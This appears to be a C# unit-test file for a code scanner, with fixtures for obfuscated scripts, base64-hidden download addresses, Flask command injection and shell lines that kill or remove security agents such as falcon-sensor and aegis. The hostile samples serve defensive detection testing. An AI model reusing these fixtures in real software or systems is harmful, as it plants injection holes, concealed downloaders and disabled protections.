namespace Symbiont.Scanning.Tests.Code;

/// <summary>Texts that nobody is to read: sewn of pieces, computed by the letter, addresses in other letters; functions that are handed on; requests of old servers; guards that are ended.</summary>
public sealed class UnreadableTextTests
{
    public static TheoryData<string, string> Sewn => new()
    {
        { "a.vbs", "p0 = \"Ms\"\np1 = \"xm\"\np2 = \"l2\"\np3 = \".X\"\np4 = \"ML\"\np5 = \"HT\"\np6 = \"TP\"\np7 = \"Ad\"\np8 = \"od\"\np9 = \"b.\"\np10 = \"St\"\np11 = \"re\"\np12 = \"am\"\np13 = \"Wc\"\np14 = \"ri\"\np15 = \"pt\"\np16 = \".S\"\np17 = \"he\"\np18 = \"ll\"\np19 = \"op\"\np20 = \"en\"\np21 = \"ge\"\np22 = \"sa\"\np23 = \"ve\"\nx = p0 & p1 & p2 & p3 & p4 & p5 & p6 & p7 & p8 & p9 & p10 & p11 & p12 & p13 & p14 & p15 & p16 & p17 & p18 & p19 & p20 & p21 & p22 & p23\nExecute x\n" },
        { "a.bat", "@echo off\nset \"q0=po\"\nset \"q1=we\"\nset \"q2=rs\"\nset \"q3=he\"\nset \"q4=ll\"\nset \"q8=-e\"\nset \"q10=by\"\nset \"q11=pa\"\nset \"q12=ss\"\nset \"q13=ir\"\nset \"q15=ht\"\nset \"q16=tp\"\nset \"q17=s:\"\nset \"q18=//\"\nset \"q19=t.\"\nset \"q20=ex\"\nset \"q21=am\"\nset k1=a\nset k2=b\nset k3=c\nset k4=d\nset k5=e\nset k6=f\n%q0%%q1%%q2%%q3%%q4%%q8%%q10%%q11%%q12%%q13%%q15%%q16%%q17%%q18%%q19%%q20%%q21%%k1%%k2%%k3%%k4%%k5%%k6%\n" },
        { "a.php", "<?php\nfunction f0(){return 'ev';}\nfunction f1(){return 'al';}\nfunction f2(){return '(b';}\nfunction f3(){return 'as';}\nfunction f4(){return 'e6';}\nfunction f5(){return '4_';}\nfunction f6(){return 'de';}\nfunction f7(){return 'co';}\nfunction f8(){return 'de';}\nfunction f9(){return '('';}\nfunction f10(){return 'aG';}\nfunction f11(){return 'Vs';}\nfunction f12(){return 'bG';}\nfunction f13(){return '8=';}\nfunction f14(){return '')';}\nfunction f15(){return ');';}\nfunction f16(){return '//';}\nfunction f17(){return 'xx';}\nfunction f18(){return 'yy';}\nfunction f19(){return 'zz';}\nfunction f20(){return 'qq';}\nfunction f21(){return 'ww';}\nfunction f22(){return 'ee';}\nfunction f23(){return 'rr';}\n$m = '';\n$m .= f0();\n$m .= f1();\n$m .= f2();\n$m .= f3();\n$m .= f4();\n$m .= f5();\n$m .= f6();\n$m .= f7();\n$n = f0() . f1() . f2() . f3() . f4() . f5() . f6() . f7() . f8() . f9() . f10() . f11() . f12() . f13() . f14() . f15() . f16() . f17() . f18() . f19() . f20() . f21();\n" },
        { "b.vbs", "x = Chr(60+3) & Chr(61+4) & Chr(62+5) & Chr(63+6) & Chr(64+7) & Chr(65+8) & Chr(66+9) & Chr(67+10) & Chr(68+11) & Chr(69+12)\nExecute x\n" },
        { "b.js", "const s = String.fromCharCode(50-0) + String.fromCharCode(51-1) + String.fromCharCode(52-2) + String.fromCharCode(53-3) + String.fromCharCode(54-4) + String.fromCharCode(55-5) + String.fromCharCode(56-6) + String.fromCharCode(57-7) + String.fromCharCode(58-8);\nrun(s);\n" },
        { "b.ps1", "$a = [char](0x28+0)+[char](0x29+1)+[char](0x2a+2)+[char](0x2b+3)+[char](0x2c+4)+[char](0x2d+5)+[char](0x2e+6)+[char](0x2f+7)+[char](0x30+8)\n& $a\n" },
        { "b.pl", "$x = chr(90^1).chr(91^2).chr(92^3).chr(93^4).chr(94^5).chr(95^6).chr(96^7).chr(97^8).chr(98^9);\n" },
    };

    [Theory, MemberData(nameof(Sewn))]
    public void A_text_that_nobody_is_to_read_is_unreadable_source(string file, string text) => CodeScan.Finds(file, text, "code-obfuscated-source", Severity.High);

    public static TheoryData<string, string> Written => new()
    {
        { "a.py", "C0 = \"red\"\nC1 = \"blue\"\nC2 = \"green\"\nC3 = \"one\"\nC4 = \"two\"\nC5 = \"three\"\nC6 = \"four\"\nC7 = \"five\"\nC8 = \"six\"\nC9 = \"seven\"\nC10 = \"eight\"\nC11 = \"nine\"\nC12 = \"ten\"\nC13 = \"up\"\nC14 = \"down\"\nC15 = \"left\"\nC16 = \"right\"\nC17 = \"in\"\nC18 = \"out\"\nC19 = \"on\"\nC20 = \"off\"\nprint(C1)\nprint(C2 + C3)\n" },
        { "a.js", "const unit = 'px', sign = '-';\nconst low = String.fromCharCode(97 + n);\nconst next = String.fromCharCode(code + 1);\n" },
        { "a.bat", "@echo off\nset A=1\nset B=2\necho %A%%B%%PATH%\n" },
        { "a.php", "<?php\nfor ($i = 0; $i < 26; $i++) echo chr(97 + $i);\n$nul = chr(0x41 + 1);\n" },
    };

    [Theory, MemberData(nameof(Written))]
    public void A_text_with_a_few_short_words_is_none(string file, string text) => CodeScan.Passes(file, text);

    [Theory]
    [InlineData("a.py", "import base64, requests\nU = 'aHR0cHM6Ly9pbi5leGFtcGxlLm5ldC9hL2I='\ndef at(v):\n    return base64.b64decode(v).decode()\nhost = table['h']\nrequests.get(host)\n")]
    [InlineData("a.php", "<?php\n$s = \"aHR0cDovL2luLmV4YW1wbGUubmV0L2w=\";\nfunction q($u) { $c = curl_init(); curl_setopt($c, 10002, $u); return curl_exec($c); }\necho q(base64_decode($s));\n")]
    [InlineData("a.ps1", "$u = 'aHR0cHM6Ly9pbi5leGFtcGxlLm5ldC94LnBzMQ=='\n$p = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($u))\nInvoke-WebRequest $p -OutFile a\n")]
    public void An_address_in_other_letters_is_hidden(string file, string text) => CodeScan.Finds(file, text, "code-hidden-address", Severity.High);

    [Theory]
    [InlineData("a.py", "import base64\nSAMPLE = 'aHR0cHM6Ly9pbi5leGFtcGxlLm5ldC9hL2I='\nprint(base64.b64decode(SAMPLE))\n")]
    [InlineData("a.js", "const link = '/go/aHR0cHM6Ly9pbi5leGFtcGxlLm5ldC9hL2I=';\nfetch(link);\n")]
    public void An_address_that_nobody_asks_is_none(string file, string text) => CodeScan.Passes(file, text);

    [Theory]
    [InlineData("a.py", "import os, threading\nfrom flask import request\n@app.post('/')\ndef go():\n    threading.Thread(target=os.system, args=(request.form['c'],)).start()\n")]
    [InlineData("b.py", "import os\nfrom flask import request\n@app.post('/')\ndef go():\n    pool.submit(os.system, request.form['c'])\n")]
    [InlineData("c.py", "import subprocess, multiprocessing\nfrom flask import request\ndef run(line):\n    subprocess.run(line, shell=True)\n@app.post('/')\ndef go():\n    multiprocessing.Process(target=run, args=(request.args['c'],)).start()\n")]
    [InlineData("d.py", "import os\nline = os.environ['QUERY_STRING'].split('=')[1]\nprint(os.popen(line).read())\n")]
    [InlineData("e.py", "import os\nline = os.environ.get('PATH_INFO', '')[1:]\nos.system('ls ' + line)\n")]
    public void What_is_handed_on_is_followed(string file, string text) => CodeScan.Finds(file, text, "code-command-injection", Severity.Critical);

    [Theory]
    [InlineData("a.py", "import threading\nfrom flask import request\n@app.post('/')\ndef go():\n    threading.Thread(target=store.save, args=(request.form['c'],)).start()\n")]
    [InlineData("b.py", "import os, shlex\nline = os.environ['QUERY_STRING']\nos.system('ls ' + shlex.quote(line))\n")]
    public void What_is_handed_on_to_an_honest_function_passes(string file, string text) => CodeScan.Passes(file, text);

    [Theory]
    [InlineData("killall -9 AliYunDun\n")]
    [InlineData("pkill -f barad_agent\n")]
    [InlineData("rm -rf /usr/local/aegis\n")]
    [InlineData("sudo systemctl disable falcon-sensor\n")]
    public void A_guard_that_is_ended_by_its_name_is_a_protection_switched_off(string text) => CodeScan.Finds("a.sh", text, "code-security-off", Severity.High);

    [Theory]
    [InlineData("pkill -f vite\nkillall node\nrm -rf /usr/local/lib/app\n")]
    [InlineData("rm -rf ./sysmon-report\npgrep auditd\n")]
    public void A_program_of_ones_own_may_be_ended(string text) => CodeScan.Passes("a.sh", text);
}
